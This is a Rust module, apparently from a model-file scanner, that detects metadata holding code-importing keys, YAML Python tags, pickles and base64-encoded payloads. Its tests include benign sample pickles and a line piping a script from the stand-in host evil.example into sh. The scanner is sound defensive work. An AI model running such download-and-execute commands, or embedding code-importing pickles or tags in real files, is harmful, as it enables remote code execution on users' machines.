//! Text that is more than text: what a metadata value of a model file may hide.
//!
//! Ordinary metadata (licenses, training settings as JSON, thumbnails as data URLs, a text that
//! mentions a URL or a command) is none of it. What is told is either a document whose keys name
//! code to import (Hydra's `_target_`, jsonpickle, YAML's Python tags), or an encoding of bytes
//! that a loader would act on.

use super::json::{JsonReader, Token};
use crate::base::Limits;

/// Shortest base64 text that is decoded: a pickle of one import and one call.
const SHORTEST: usize = 16;
/// Base64 text below this length is a word by chance too often to be judged by how it begins: a
/// pickle must end there as well, and anything else is passed over.
const SHORT: usize = 64;

/// What the metadata entry `key: value` holds beyond text, in words.
pub(super) fn in_metadata(key: &str, value: &str, limits: &Limits) -> Option<String> {
    if let Some(family) = key_that_names_code(key) {
        return Some(format!("a key of {family}"));
    }
    if let Some(holds) = in_text(value) {
        return Some(holds);
    }
    let begins = value.trim_start();
    if begins.starts_with(['{', '[']) { in_json(begins, limits) } else { None }
}

/// Keys that name code to import wherever they stand.
fn key_that_names_code(key: &str) -> Option<&'static str> {
    match key {
        "_target_" => Some("Hydra, which imports what it names"),
        "py/object" | "py/reduce" | "py/type" | "py/function" | "py/repr" | "py/ref"
        | "py/newobj" | "py/newargs" | "py/newargsex" | "py/state" => {
            Some("jsonpickle, which imports what it names")
        }
        _ => None,
    }
}

/// Pairs of keys that together name code: the first has an import path, the second its arguments.
const PAIRS: [(&str, &str, &str); 3] = [
    ("class_path", "init_args", "jsonargparse, which imports what it names"),
    ("target", "params", "instantiate_from_config, which imports what it names"),
    ("__module__", "__class__", "a serialised object, whose class is imported"),
];

/// What one piece of text is.
fn in_text(text: &str) -> Option<String> {
    if let Some(tag) = yaml_tag(text) {
        return Some(format!("the YAML tag {tag}, which runs code"));
    }
    if is_plain_pickle(text) {
        return Some("a pickle".to_owned());
    }
    base64_payload(text).map(|what| format!("base64 of {what}"))
}

/// A tag of PyYAML or HyperPyYAML that makes objects, where a tag may stand.
fn yaml_tag(text: &str) -> Option<&'static str> {
    const TAGS: [&str; 6] = ["!!python/", "!new:", "!name:", "!apply:", "!include:", "!module:"];
    TAGS.into_iter().find(|tag| {
        text.match_indices(tag).any(|(at, _)| {
            let in_front = text.get(..at).and_then(|front| front.chars().next_back());
            let end = at.saturating_add(tag.len());
            let behind = text.get(end..).and_then(|rest| rest.chars().next());
            in_front.is_none_or(|c| c.is_whitespace() || matches!(c, '[' | '{' | ',' | '-' | '"'))
                && behind.is_some_and(|c| c.is_alphabetic() || c == '_')
        })
    })
}

/// Whether the text is a pickle of protocol 0 that imports something.
fn is_plain_pickle(text: &str) -> bool {
    let text = text.trim_end();
    text.ends_with('.') && imports_first(text.as_bytes())
}

/// Whether the first opcode behind marks is `GLOBAL` or `INST`: `c`, module, line, name, line.
fn imports_first(bytes: &[u8]) -> bool {
    let dotted = |line: &[u8]| {
        !line.is_empty()
            && line.iter().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'.'))
    };
    let mut lines = bytes.splitn(3, |byte| *byte == b'\n');
    let module = lines.next().and_then(|line| {
        let marks = line.iter().take_while(|byte| **byte == b'(').count();
        let line = line.get(marks..)?;
        line.strip_prefix(b"c").or_else(|| line.strip_prefix(b"i"))
    });
    module.is_some_and(dotted) && lines.next().is_some_and(dotted) && lines.next().is_some()
}

/// What base64 text decodes to, if that is something a loader acts on. Thumbnails and other data
/// pass.
fn base64_payload(text: &str) -> Option<&'static str> {
    let text = text.trim();
    let text = match text.strip_prefix("data:") {
        Some(url) => url.split_once(";base64,").map_or("", |(_, data)| data),
        None => text,
    };
    if text.len() < SHORTEST {
        return None;
    }
    let is_symbol = |byte: u8| {
        byte.is_ascii_alphanumeric()
            || matches!(byte, b'+' | b'/' | b'-' | b'_' | b'=' | b'\n' | b'\r')
    };
    if !text.bytes().all(is_symbol) {
        return None;
    }
    let decoded = decode_base64(text.as_bytes().get(..256).unwrap_or(text.as_bytes()));
    if text.len() < SHORT {
        let declared =
            matches!(decoded.as_slice(), [0x80, 0..=5, next, ..] if is_early_opcode(*next));
        let pickle = decoded.ends_with(b".") && (declared || imports_first(&decoded));
        return pickle.then_some("a pickle");
    }
    match decoded.as_slice() {
        [b'P', b'K', 3, 4, ..] => Some("a zip archive"),
        [0x1F, 0x8B, 8, ..] => Some("gzip data"),
        [b'B', b'Z', b'h', b'1'..=b'9', 0x31, 0x41, 0x59, ..] => Some("bzip2 data"),
        [0xFD, b'7', b'z', b'X', b'Z', 0, ..] => Some("xz data"),
        [b'7', b'z', 0xBC, 0xAF, 0x27, 0x1C, ..] => Some("a 7z archive"),
        [0x7F, b'E', b'L', b'F', ..] => Some("native code"),
        [0x93, b'N', b'U', b'M', b'P', b'Y', ..] => Some("a numpy array"),
        // PROTO and an opcode that a pickler writes next.
        [0x80, 2..=5, next, ..] if is_early_opcode(*next) => Some("a pickle"),
        [b'c' | b'(', ..] if imports_first(&decoded) => Some("a pickle"),
        _ => None,
    }
}

/// Opcodes that can follow `PROTO` in a pickle that some pickler writes.
fn is_early_opcode(byte: u8) -> bool {
    matches!(
        byte,
        b'(' | b'}'
            | b']'
            | b')'
            | b'c'
            | b'N'
            | b'K'
            | b'M'
            | b'J'
            | b'G'
            | b'X'
            | b'U'
            | b'T'
            | b'C'
            | b'B'
            | b'I'
            | b'F'
            | b'V'
            | 0x85..=0x8F | 0x95 | 0x96
    )
}

fn decode_base64(text: &[u8]) -> Vec<u8> {
    let mut decoded = Vec::with_capacity(text.len());
    let mut pending = 0_u32;
    let mut bits = 0_u32;
    for byte in text {
        let value = match byte {
            b'A'..=b'Z' => byte.wrapping_sub(b'A'),
            b'a'..=b'z' => byte.wrapping_sub(b'a').wrapping_add(26),
            b'0'..=b'9' => byte.wrapping_sub(b'0').wrapping_add(52),
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            _ => continue,
        };
        pending = (pending << 6) | u32::from(value);
        bits = bits.wrapping_add(6);
        if bits >= 8 {
            bits = bits.wrapping_sub(8);
            decoded.push(u8::try_from((pending >> bits) & 0xFF).unwrap_or(0));
            // At most six bits wait for the next symbol.
            pending &= 0x3F;
        }
    }
    decoded
}

/// What the keys and strings of a JSON document hold. A document that breaks off is judged as far
/// as it goes.
fn in_json(text: &str, limits: &Limits) -> Option<String> {
    let bytes = text.as_bytes();
    let mut reader = JsonReader::new(&bytes, 0, bytes.len() as u64, limits.json_depth);
    // Per open container: which halves of which pairs it has.
    let mut open: Vec<[u8; PAIRS.len()]> = Vec::new();
    // The half that the key in front of a value would be.
    let mut pending = [0_u8; PAIRS.len()];
    while let Ok(token) = reader.next() {
        if token == Token::End {
            break;
        }
        if token == Token::Key {
            let key = reader.text();
            if let Some(family) = key_that_names_code(key) {
                return Some(format!("JSON with the key `{key}` of {family}"));
            }
            for (half, (first, second, _)) in pending.iter_mut().zip(PAIRS) {
                *half = u8::from(key == first) | (u8::from(key == second) << 1);
            }
            continue;
        }
        if let Some(halves) = open.last_mut() {
            for ((seen, half), (first, second, family)) in halves.iter_mut().zip(pending).zip(PAIRS)
            {
                let fits = match half {
                    1 => token == Token::String && is_import_path(reader.text()),
                    2 => matches!(token, Token::BeginObject | Token::String),
                    _ => false,
                };
                if fits {
                    *seen |= half;
                }
                if *seen == 3 {
                    return Some(format!("JSON with `{first}` and `{second}`: {family}"));
                }
            }
        }
        pending = [0; PAIRS.len()];
        match token {
            Token::BeginObject | Token::BeginArray => open.push([0; PAIRS.len()]),
            Token::EndObject | Token::EndArray => {
                open.pop();
            }
            Token::String => {
                if let Some(holds) = in_text(reader.text()) {
                    return Some(holds);
                }
            }
            _ => {}
        }
    }
    None
}

/// Whether a text could name a Python module or something in one.
fn is_import_path(text: &str) -> bool {
    !text.is_empty()
        && text.split('.').all(|part| {
            !part.is_empty()
                && !part.starts_with(|c: char| c.is_ascii_digit())
                && part.chars().all(|c| c.is_alphanumeric() || c == '_')
        })
}

#[cfg(test)]
#[allow(clippy::arithmetic_side_effects, reason = "tests compute with small numbers")]
mod tests {
    use super::*;

    fn holds(key: &str, value: &str) -> Option<String> {
        in_metadata(key, value, &Limits::default())
    }

    fn base64(bytes: &[u8]) -> String {
        const SYMBOLS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut text = String::new();
        for piece in bytes.chunks(3) {
            let word = piece.iter().fold(0_u32, |word, byte| (word << 8) | u32::from(*byte))
                << (8 * (3 - piece.len()));
            for index in 0..=piece.len() {
                text.push(char::from(SYMBOLS[(word >> (18 - 6 * index)) as usize & 63]));
            }
        }
        text
    }

    #[test]
    fn what_names_code_is_told() {
        for (key, value) in [
            ("_target_", "x.y"),
            ("config", r#"{"model": {"_target_": "os.getpid"}}"#),
            ("config", r#" [{"py/object": "a.B"}]"#),
            ("config", r#"{"class_path": "a.B", "init_args": {}}"#),
            ("config", r#"{"target": "a.B", "params": {}}"#),
            ("config", "model: !!python/object/apply:os.getpid []"),
            ("config", "model: !new:a.B"),
            ("note", "cposix\ngetpid\n(tR."),
            ("note", "(ios\ngetpid\n."),
        ] {
            assert!(holds(key, value).is_some(), "{key} {value}");
        }
    }

    #[test]
    fn encoded_bytes_that_a_loader_acts_on_are_told() {
        let padding = [0_u8; 80];
        for magic in
            [&b"PK\x03\x04"[..], b"\x1f\x8b\x08", b"\x80\x04\x95", b"\x7fELF", b"cos\ngetpid\n"]
        {
            let text = base64(&[magic, if magic[0] == b'c' { b"(tR." } else { &padding }].concat());
            assert!(holds("data", &text).is_some(), "{magic:?} {text}");
            assert!(holds("data", &format!("data:application/x;base64,{text}")).is_some());
            assert!(holds("data", &format!("[\"{text}\"]")).is_some());
        }
    }

    #[test]
    fn ordinary_metadata_passes() {
        let picture = base64(&[&b"\xff\xd8\xff\xe0\0\x10JFIF"[..], &[7; 90]].concat());
        let png = base64(&[&b"\x89PNG\r\n\x1a\n"[..], &[9; 90]].concat());
        let long_hex = "0123456789abcdef".repeat(8);
        for value in [
            "pt",
            "Apache License, Version 2.0. Permission is hereby granted; see https://x.example/a",
            "curl http://evil.example/x.sh | sh",
            "import os; os.system('ls')",
            r#"{"ss_learning_rate": 0.1, "target": "x", "_class_name": "AutoencoderKL"}"#,
            r#"{"params": 3}"#,
            r#"{"target": "make it look good", "params": {"steps": 3}}"#,
            r#"{"target": "x.y", "params": 3}"#,
            r#"[{"target": "x.y"}, {"params": {}}]"#,
            "{broken",
            "Hello! This is a very long sentence without any payload, it only goes on and on.",
            "wow !name: that",
            &format!("data:image/jpeg;base64,{picture}"),
            &png,
            &long_hex,
            "",
        ] {
            assert_eq!(holds("modelspec.thumbnail", value), None, "{value}");
        }
    }
}
